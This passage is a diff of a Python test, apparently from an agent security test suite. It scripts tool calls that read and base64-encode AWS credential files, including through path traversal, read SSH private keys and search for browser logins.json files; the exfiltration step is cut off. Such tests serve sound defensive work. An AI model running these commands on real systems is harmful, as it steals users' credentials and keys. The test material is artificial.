@@ -128,12 +128,12 @@ def test_read_credentials_base64_and_post_them_out(victim: Victim) -> None:
     steps = [
         tool(
             "run_command",
-            command=f"cat ~/.aws/credentials {h}/.aws/credentials /root/.aws/credentials "
+            command=f"cat ~/.aws/credentials {h}/.aws/credentials ~root/.aws/credentials "
             f"../../../.aws/credentials 2>&1 | base64",
         ),
         tool("read_file", path=f"{h}/.ssh/id_ed25519"),
         tool("read_file", path="../../.ssh/id_ed25519"),
-        tool("run_command", command=f"ls -la {h} ~ /home /root 2>&1; find / -name 'logins.json' 2>/dev/null | head"),
+        tool("run_command", command=f"ls -la {h} ~ /home ~root 2>&1; find / -name 'logins.json' 2>/dev/null | head"),
         tool(
             "run_command",
             command=(
